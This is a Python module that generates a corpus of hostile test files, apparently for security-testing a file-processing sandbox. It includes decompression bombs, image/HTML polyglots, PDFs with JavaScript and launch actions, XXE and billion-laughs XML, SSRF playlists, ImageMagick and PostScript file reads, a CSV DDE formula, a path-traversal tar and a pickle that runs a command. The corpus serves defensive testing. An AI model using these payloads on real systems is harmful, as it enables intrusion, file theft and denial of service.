"""More than two hundred files made to harm whoever opens them: bombs, polyglots, scripts, lists, lies and ruins.

Each carries the mark of its script, and names a secret file outside and an address that must never be asked.
"""

# ruff: noqa: E501  # bytes of a file are read more easily in one line
import bz2
import gzip
import io
import lzma
import random
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Iterator

from sandbox import made

SCRIPT = b"alert('a mark of a script that ran')"
_SEED = 20241120


def every(secret: str, address: str) -> Iterator[tuple[str, bytes]]:
    """Each file with its name."""
    wanted = f"file://{secret}"
    yield from _bombs()
    yield from _pictures()
    yield from _polyglots()
    yield from _documents(wanted, address)
    yield from _markup(wanted, secret, address)
    yield from _recordings(secret, address)
    yield from _programs(secret)
    yield from _ruins()


def _zip(name: str, content: bytes) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, content)
    return file.getvalue()


def _bombs() -> Iterator[tuple[str, bytes]]:
    zeros = bytes(20_000_000)
    inner = _zip("word/document.xml", zeros)
    for depth in range(5):
        inner = _zip("again.zip", inner)
        yield f"a zip bomb {depth + 1} deep", inner
    yield "a docx bomb", _zip("word/document.xml", zeros)
    yield "a gzip bomb", gzip.compress(zeros)
    yield "a bzip2 bomb", bz2.compress(zeros)
    yield "an xz bomb", lzma.compress(zeros)
    yield "a zlib bomb", zlib.compress(zeros)
    yield "an office file with macros", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + SCRIPT
    yield "an rtf with an object", b"{\\rtf1{\\object\\objdata " + SCRIPT.hex().encode() + b"}}"


def _png(width: int, height: int, depth: int, colour: int, *chunks: tuple[bytes, bytes]) -> bytes:
    head = struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0)
    parts = [(b"IHDR", head), *chunks, (b"IEND", b"")]
    framed = (
        struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data)) for kind, data in parts
    )
    return b"\x89PNG\r\n\x1a\n" + b"".join(framed)


def _pictures() -> Iterator[tuple[str, bytes]]:
    zeros = zlib.compress(bytes(60_000_000))
    for width, height in ((60_000, 60_000), (2**31 - 1, 1), (1, 2**31 - 1), (0, 0), (9000, 9000), (29_999, 2000)):
        yield f"a png of {width} by {height}", _png(width, height, 8, 2, (b"IDAT", zeros))
        jpeg = bytearray(made.encoded("JPEG"))
        at = jpeg.index(b"\xff\xc0") + 5
        jpeg[at : at + 4] = struct.pack(">HH", height & 0xFFFF, width & 0xFFFF)
        yield f"a jpeg that says {width} by {height}", bytes(jpeg)
        gif = b"GIF89a" + struct.pack("<HHBBB", width & 0xFFFF, height & 0xFFFF, 0x80, 0, 0) + bytes(6)
        yield (
            f"a gif of {width} by {height}",
            gif + b"," + struct.pack("<HHHHB", 0, 0, width & 0xFFFF, height & 0xFFFF, 0) + b"\x02\x02\x4c\x01\x00;",
        )
        bmp = (
            b"BM"
            + struct.pack("<IHHI", 54, 0, 0, 54)
            + struct.pack("<IiiHHIIiiII", 40, min(width, 2**31 - 1), -min(height, 2**31 - 1), 1, 24, 1, 0, 0, 0, 0, 0)
        )
        yield f"a bmp of {width} by {height}", bmp
    small = zlib.compress(bytes(4))
    yield "a png with a text bomb", _png(1, 1, 8, 2, (b"zTXt", b"c\0\0" + zeros), (b"IDAT", small))
    yield "a png with a profile bomb", _png(1, 1, 8, 2, (b"iCCP", b"c\0\0" + zeros), (b"IDAT", small))
    yield "a png with a script in its text", _png(1, 1, 8, 2, (b"tEXt", b"c\0" + SCRIPT), (b"IDAT", small))
    yield "a png with exif junk", _png(1, 1, 8, 2, (b"eXIf", b"II*\0" + b"\xff" * 60_000), (b"IDAT", small))
    yield "a png without a palette", _png(1, 1, 8, 3, (b"IDAT", small))
    yield "a png of a depth that is none", _png(1, 1, 77, 2, (b"IDAT", small))
    yield "a png of 5,000 chunks", _png(1, 1, 8, 2, *[(b"tEXt", b"c\0x")] * 5000, (b"IDAT", small))
    frames = [(b"acTL", struct.pack(">II", 2**31 - 1, 0)), *[(b"fcTL", bytes(26))] * 1000]
    yield "a png of a thousand frames", _png(1, 1, 8, 2, *frames, (b"IDAT", small))
    jpeg = made.encoded("JPEG")
    for name, segment in {
        "a loop": b"Exif\0\0II*\0\x08\0\0\0\0\0\x08\0\0\0",
        "65,535 tags": b"Exif\0\0II*\0\x08\0\0\0\xff\xff" + b"\x0f\x01\x02\0\xff\xff\xff\x7f\0\0\0\0" * 4000,
        "a maker's note of itself": b"Exif\0\0II*\0\x08\0\0\0\x01\0\x69\x87\x04\0\x01\0\0\0\x08\0\0\0\x08\0\0\0",
        "an orientation of 65,535": b"Exif\0\0II*\0\x08\0\0\0\x01\0\x12\x01\x03\0\x01\0\0\0\xff\xff\0\0\0\0\0\0",
        "xmp entities": b"http://ns.adobe.com/xap/1.0/\0<!DOCTYPE x [<!ENTITY a 'aaaaaaaaaa'><!ENTITY b '&a;&a;&a;'>]><x>&b;</x>",
        "a profile of junk": b"ICC_PROFILE\0\x01\x01" + b"\xff" * 60_000,
        "a script": SCRIPT,
    }.items():
        for marker in (0xE1, 0xE2, 0xFE):
            framed = struct.pack(">BBH", 0xFF, marker, len(segment) + 2) + segment
            yield f"a jpeg with {name} in {marker:x}", jpeg[:2] + framed + jpeg[2:]
    yield "a jpeg of 3,000 scans", jpeg[:-2] + jpeg[jpeg.index(b"\xff\xda") : -2] * 3000 + b"\xff\xd9"
    yield "a tiff that leads to itself", b"II*\0\x08\0\0\0" + struct.pack("<HHHIII", 1, 256, 4, 1, 1, 8)
    strip = [
        (256, 4, 1, 60_000),
        (257, 4, 1, 60_000),
        (258, 3, 1, 8),
        (259, 3, 1, 5),
        (273, 4, 1, 8),
        (279, 4, 1, 2**31),
    ]
    body = b"".join(struct.pack("<HHII", *each) for each in strip)
    yield "a tiff of a strip beyond all", b"II*\0\x08\0\0\0" + struct.pack("<H", len(strip)) + body + bytes(4)
    yield "a bigtiff", b"II+\0\x08\0\0\0" + struct.pack("<Q", 16) + bytes(60)
    yield "a webp of nothing", b"RIFF\xff\xff\xff\xffWEBPVP8X\x0a\0\0\0\xff\0\0\0\xff\xff\xff\xff\xff\xff"
    heic = made.encoded("HEIF")
    at = heic.index(b"ispe") + 8
    yield "a heic that says it is vast", heic[:at] + struct.pack(">II", 60_000, 60_000) + heic[at + 8 :]
    yield "a heic of boxes in boxes", b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + b"\0\0\xff\xffmeta" * 5000
    yield "an avif of nothing", b"\0\0\0\x18ftypavif\0\0\0\0mif1avif" + b"\0\0\0\0mdat"


def _polyglots() -> Iterator[tuple[str, bytes]]:
    page = b"<html><script>" + SCRIPT + b"</script></html>"
    yield "a gif that is a script", b"GIF89a/*" + made.encoded("GIF")[8:] + b"*/=1;" + SCRIPT
    for form in ("JPEG", "PNG", "GIF", "WEBP", "BMP", "TIFF", "HEIF"):
        yield f"a {form} with a page behind it", made.encoded(form) + page
        yield f"a {form} with a zip behind it", made.encoded(form) + _zip("a.html", page)
    yield "a pdf with a page before its end", made.pdf(extra=page)
    yield "a page that says it is a pdf", page + made.pdf()
    yield "a pdf with a zip behind it", made.pdf() + _zip("a.html", page)
    yield "a recording with a page behind it", made.recording("sine", "-f", "ogg", "-c:a", "libopus") + page
    yield (
        "an mp3 that begins with a page",
        b"ID3\x03\0\0" + bytes([0, 0, 1, 0]) + page.ljust(128) + made.recording("sine", "-f", "mp3"),
    )
    yield "a wav of a page", b"RIFF" + struct.pack("<I", len(page)) + b"WAVE" + page


def _documents(wanted: str, address: str) -> Iterator[tuple[str, bytes]]:
    acts = {
        "a script": b"<< /S /JavaScript /JS (" + SCRIPT.replace(b"(", b"\\(").replace(b")", b"\\)") + b") >>",
        "a launch": b"<< /S /Launch /F (/bin/sh) >>",
        "a link out": f"<< /S /URI /URI ({address}/opened) >>".encode(),
        "a form sent out": f"<< /S /SubmitForm /F ({address}/form) >>".encode(),
        "another document": f"<< /S /GoToR /F ({wanted}) >>".encode(),
    }
    for name, act in acts.items():
        yield f"a pdf that opens with {name}", made.pdf(catalog=b"/OpenAction " + act)
        yield f"a pdf whose page does {name}", made.pdf(page=b"/AA << /O " + act + b" >>")
    yield "a pdf with a file in it", made.pdf(catalog=b"/Names << /EmbeddedFiles << /Names [(a.exe) 5 0 R] >> >>")
    picture = f"<< /Type /XObject /Subtype /Image /F ({wanted}) /FFilter /DCTDecode /Width 9 /Height 9 >>"
    yield (
        "a pdf whose picture lies outside",
        made.pdf(page=b"/Resources << /XObject << /a " + picture.encode() + b" >> >>"),
    )
    yield (
        "a pdf of a form with entities",
        made.pdf(catalog=f'/AcroForm << /XFA (<!DOCTYPE x SYSTEM "{wanted}">) >>'.encode()),
    )
    yield "a pdf of a vast page", made.pdf(page=b"/MediaBox [0 0 9999999999 9999999999]")
    yield "a pdf of a page without size", made.pdf(page=b"/MediaBox [0 0 0 0]")
    yield "a pdf of 20,000 pages", made.pdf(pages=20_000)
    yield (
        "a pdf whose pages are its own parents",
        made.pdf(extra=b"2 0 obj << /Type /Pages /Count 9 /Kids [2 0 R] >> endobj\n"),
    )
    bomb = zlib.compress(zlib.compress(bytes(60_000_000)))
    stream = (
        b"5 0 obj << /Length %d /Filter [/FlateDecode /FlateDecode] >> stream\n" % len(bomb)
        + bomb
        + b"\nendstream endobj\n"
    )
    yield "a pdf of a bomb", made.pdf(extra=stream, page=b"/Contents 5 0 R")
    drawing = b"q 1 0 0 1 0 0 cm /f Do Q " * 1000
    loop = (
        b"5 0 obj << /Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /f 5 0 R >> >> /Length %d >> stream\n"
        % len(drawing)
    )
    yield (
        "a pdf that draws itself",
        made.pdf(
            extra=loop + drawing + b"\nendstream endobj\n",
            page=b"/Contents 5 0 R /Resources << /XObject << /f 5 0 R >> >>",
        ),
    )
    yield (
        "a pdf under a password",
        made.pdf().replace(b"/Info 3 0 R", b"/Info 3 0 R /Encrypt << /Filter /Standard /V 4 /R 4 >>"),
    )
    whole = made.pdf()
    for share in (9, 50, 200, 400):
        yield f"a pdf cut after {share} bytes", whole[:share]


def _markup(wanted: str, secret: str, address: str) -> Iterator[tuple[str, bytes]]:
    script = SCRIPT.decode()
    texts = {
        "an svg with a script": f"<svg xmlns='http://www.w3.org/2000/svg'><script>{script}</script></svg>",
        "an svg that runs when it is there": f"<svg onload=\"{script}\"/>",
        "an svg of a file outside": f"<svg><image href='{wanted}'/><image href='{address}/svg'/></svg>",
        "an svg of entities": f"<!DOCTYPE svg [<!ENTITY x SYSTEM '{wanted}'>]><svg>&x;</svg>",
        "a billion laughs": "<!DOCTYPE x [<!ENTITY a 'ha'>" + "".join(f"<!ENTITY {chr(98 + n)} '{f'&{chr(97 + n)};' * 10}'>" for n in range(9)) + "]><x>&j;</x>",
        "an include": f"<x xmlns:xi='http://www.w3.org/2001/XInclude'><xi:include href='{wanted}' parse='text'/></x>",
        "a page": f"<!doctype html><script>{script}</script><img src='{address}/page'>",
        "a page after a blank": f"\n\t <html><body onload=\"{script}\">",
        "a page with a mark before": f"\ufeff<script>{script}</script>",
        "a playlist": f"#EXTM3U\n#EXTINF:1,\n{wanted}\n{address}/list\n",
        "a playlist of small letters": f"#extm3u\n{wanted}\n",
        "a list to be joined": f"ffconcat version 1.0\nfile '{secret}'\nfile '{address}/join'\n",
        "a pls": f"[playlist]\nFile1={wanted}\n",
        "a dash": f"<MPD><BaseURL>{wanted}</BaseURL></MPD>",
        "an xspf": f"<playlist><trackList><track><location>{wanted}</location></track></trackList></playlist>",
        "postscript": f"%!PS\n({secret}) (r) file 1000 string readstring pop print\n",
        "imagemagick's own": f"push graphic-context\nimage over 0,0 0,0 'url({address}/mvg)'\npop graphic-context\n",
        "imagemagick's script": f"<image><read filename='{secret}'/><write filename='/tmp/out'/></image>",
        "a shortcut": f"[InternetShortcut]\nURL={wanted}\n",
        "a desktop entry": f"[Desktop Entry]\nExec=sh -c 'cat {secret}'\n",
        "a shell script": f"#!/bin/sh\ncat {secret}\n",
        "a mail": f"MIME-Version: 1.0\nContent-Type: text/html\n\n<script>{script}</script>",
        "a csv of formulas": f"=HYPERLINK(\"{address}/csv\"),=cmd|' /C calc'!A0\n",
    }  # fmt: skip
    for name, text in texts.items():
        yield name, text.encode()
        yield f"{name}, in UTF-16", text.removeprefix("\ufeff").encode("utf-16")


def _recordings(secret: str, address: str) -> Iterator[tuple[str, bytes]]:
    film, voice = made.recording("film", "sine", "-f", "mp4"), made.recording("sine", "-f", "ipod")
    for share in (10, 30, 60, 90, 99):
        yield f"a film of which {share} per cent came", film[: len(film) * share // 100]
        yield f"a voice of which {share} per cent came", voice[: len(voice) * share // 100]
    outside = f"{secret}".encode()
    alias = struct.pack(">I", 28 + len(outside)) + b"url " + bytes(4) + outside + b"\0" * 16
    reference = struct.pack(">I", 16 + len(alias)) + b"dref" + struct.pack(">II", 0, 1) + alias
    yield (
        "a film whose samples lie outside",
        film.replace(b"\0\0\0\x1cdref\0\0\0\0\0\0\0\x01\0\0\0\x0curl \0\0\0\x01", reference),
    )
    yield "a film of one box in itself", b"\0\0\0\x18ftypisom\0\0\0\0isomiso2" + b"\0\0\xff\xffmoov" * 8000
    yield "a film of a box beyond all", b"\0\0\0\x18ftypisom\0\0\0\0isomiso2" + b"\x7f\xff\xff\xffmoov" + bytes(100)
    yield "a film of nothing but data", b"\0\0\0\x08mdat" * 1000
    at = film.index(b"stsz") + 12
    yield "a film of four billion samples", film[:at] + b"\xff\xff\xff\xff" + film[at + 4 :]
    yield "a playlist that says it is an mp3", b"ID3\x04\0\0\0\0\0\0#EXTM3U\nfile://" + outside + b"\n"
    yield "a playlist that says it is sound", b"#!AMR\n#EXTM3U\n" + outside + b"\n"
    yield "a list in a container", b"\x1a\x45\xdf\xa3\xff\xff\xff\xff" + b"ffconcat version 1.0\nfile " + outside
    yield (
        "a wav of four gigabytes",
        b"RIFF\xff\xff\xff\xffWAVEfmt \x10\0\0\0\x01\0\xff\xff\xff\xff\xff\xff\0\0\0\0\0\0\x20\0data\xff\xff\xff\xff",
    )
    yield "a flac of pictures", b"fLaC\x86\xff\xff\xff" + bytes(50_000)
    yield "an ogg of nothing", b"OggS" * 5000
    yield "an amr of junk", b"#!AMR\n" + random.Random(1).randbytes(50_000)
    yield "an adts of junk", b"\xff\xf1" + random.Random(2).randbytes(50_000)
    tagged = made.recording("sine", "-f", "mp3")
    yield "an mp3 with a script in its title", b"ID3\x03\0\0\0\0\x01\0TIT2\0\0\0\x40\0\0" + SCRIPT.ljust(118) + tagged
    yield "an mp3 with a link", b"ID3\x03\0\0\0\0\x01\0WXXX\0\0\0\x40\0\0" + address.encode().ljust(118) + tagged


def _programs(secret: str) -> Iterator[tuple[str, bytes]]:
    yield "nothing", b""
    yield "one byte", b"\xff"
    yield "zeros", bytes(100_000)
    yield "noise", random.Random(3).randbytes(100_000)
    yield "a program of Linux", b"\x7fELF\x02\x01\x01" + bytes(100)
    yield "a program of Windows", b"MZ\x90\0" + bytes(100)
    yield "a program of Apple", b"\xcf\xfa\xed\xfe" + bytes(100)
    yield "a class of Java", b"\xca\xfe\xba\xbe" + bytes(100)
    yield "web assembly", b"\0asm\x01\0\0\0"
    yield "a shortcut of Windows", b"L\0\0\0\x01\x14\x02\0" + bytes(100)
    yield "the test of virus scanners", b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
    file = io.BytesIO()
    with tarfile.open(fileobj=file, mode="w") as archive:
        link = tarfile.TarInfo("../../../../etc/cron.d/link")
        link.type, link.linkname = tarfile.SYMTYPE, secret
        archive.addfile(link)
    yield "a tar that climbs", file.getvalue()
    yield (
        "a pickle",
        b"\x80\x04\x95\x1e\0\0\0\0\0\0\0\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c\x02id\x94\x85\x94R\x94.",
    )


def _ruins() -> Iterator[tuple[str, bytes]]:
    """What was good, with bytes changed, as any fuzzer begins."""
    dice = random.Random(_SEED)
    good = {form: made.encoded(form) for form in ("JPEG", "PNG", "GIF", "WEBP", "TIFF", "HEIF")}
    good |= {
        "PDF": made.pdf(),
        "MP4": made.recording("film", "sine", "-f", "mp4"),
        "OGG": made.recording("sine", "-f", "ogg", "-c:a", "libopus"),
    }
    for form, content in good.items():
        for number in range(6):
            ruined = bytearray(content)
            for _ in range(2 ** (number + 1)):
                ruined[dice.randrange(16, len(ruined))] = dice.randrange(256)
            yield f"a {form} ruined {2 ** (number + 1)} times", bytes(ruined)
